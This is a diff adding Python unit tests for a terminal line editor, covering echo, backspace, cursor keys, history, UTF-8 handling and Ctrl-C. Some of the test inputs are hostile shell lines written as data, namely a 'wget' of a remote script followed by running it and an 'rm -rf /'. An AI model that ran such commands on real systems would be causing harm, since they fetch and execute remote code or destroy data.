@@ -0,0 +1,93 @@
+from core.line_discipline import LineEditor
+
+
+def feed(editor: LineEditor, data: bytes) -> tuple[bytes, list[bytes]]:
+    echo, lines = editor.feed(data)
+    assert len(echo) == len(lines) + 1
+    return b''.join(echo), lines
+
+
+def test_typing_and_enter():
+    editor = LineEditor()
+
+    assert feed(editor, b'ls -l') == (b'ls -l', [])
+    assert feed(editor, b'\r') == (b'\r', [b'ls -l'])
+    assert feed(editor, b'\n') == (b'\n', [])      # LF of a CRLF pair does not end another line
+
+
+def test_pasted_lines_in_one_chunk():
+    editor = LineEditor()
+
+    echo, lines = feed(editor, b'cd /tmp\nwget http://x/a.sh\r\nsh a.sh\npartial')
+    assert lines == [b'cd /tmp', b'wget http://x/a.sh', b'sh a.sh']
+    assert echo == b'cd /tmp\nwget http://x/a.sh\r\nsh a.sh\npartial'
+    assert feed(editor, b'\r')[1] == [b'partial']
+
+
+def test_echo_is_split_per_line():
+    editor = LineEditor()
+
+    assert editor.feed(b'cd /tmp\npwd\rl') == ([b'cd /tmp\n', b'pwd\r', b'l'], [b'cd /tmp', b'pwd'])
+
+
+def test_backspace():
+    editor = LineEditor()
+
+    assert feed(editor, b'lss\x7f') == (b'lss\b \b', [])
+    assert feed(editor, b'\x08\x08\x08\x7f') == (b'\b \b\b \b', [])    # nothing left to delete
+    assert feed(editor, b'pwd\r')[1] == [b'pwd']
+
+
+def test_cursor_keys_edit_in_the_middle():
+    editor = LineEditor()
+
+    feed(editor, b'ct file')
+    echo, _ = feed(editor, b'\x1b[D' * 6 + b'a')
+    assert echo == b'\b' * 6 + b'at file' + b'\b' * 6
+    feed(editor, b'\x1b[F')      # end
+    assert feed(editor, b'\r')[1] == [b'cat file']
+
+
+def test_escape_sequence_split_across_chunks():
+    editor = LineEditor()
+
+    feed(editor, b'ab\x1b')
+    feed(editor, b'[')
+    assert feed(editor, b'D') == (b'\b', [])
+    feed(editor, b'\x1b[3~')     # delete under the cursor
+    assert feed(editor, b'\r')[1] == [b'a']
+
+
+def test_history():
+    editor = LineEditor()
+
+    feed(editor, b'whoami\r')
+    feed(editor, b'id\r')
+    feed(editor, b'\x1b[A\x1b[A')
+    assert feed(editor, b'\r')[1] == [b'whoami']
+    feed(editor, b'\x1b[A\x1b[B')
+    assert feed(editor, b'\r')[1] == [b'']
+
+
+def test_utf8_backspace_removes_whole_character():
+    editor = LineEditor()
+
+    feed(editor, 'cat ă'.encode())
+    assert feed(editor, b'\x7f') == (b'\b \b', [])
+    assert feed(editor, b'\r')[1] == [b'cat ']
+
+
+def test_ctrl_c_discards_line():
+    editor = LineEditor()
+
+    assert feed(editor, b'rm -rf /\x03') == (b'rm -rf /^C', [b''])
+    assert feed(editor, b'ls\r')[1] == [b'ls']
+
+
+def test_overflow():
+    editor = LineEditor(max_length=16)
+
+    feed(editor, b'a' * 10)
+    assert not editor.overflow
+    feed(editor, b'a' * 10)
+    assert editor.overflow